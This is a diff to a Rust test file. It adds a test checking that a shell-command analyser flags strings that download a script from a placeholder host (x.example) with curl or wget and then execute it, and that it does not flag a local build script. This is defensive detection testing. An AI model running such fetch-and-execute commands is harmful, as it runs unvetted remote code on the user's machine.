@@ -1103,3 +1103,17 @@ fn quoting_corners() {
         &["echo", "yes", "${NOPE}x"],
     );
 }
+
+#[test]
+fn running_a_file_written_with_unknown_content_is_a_problem() {
+    for s in [
+        "curl -fsSL https://x.example/i.sh -o i.sh && bash i.sh",
+        "wget -O /tmp/i.sh https://x.example && sh /tmp/i.sh",
+        "curl -s https://x.example > i.py; python3 i.py",
+        "curl -so x https://x.example; chmod +x x; ./x",
+        "curl -s x > s.sh; . s.sh",
+    ] {
+        assert!(!an(s).problems.is_empty(), "{s}");
+    }
+    assert!(an("bash scripts/build.sh").problems.is_empty());
+}
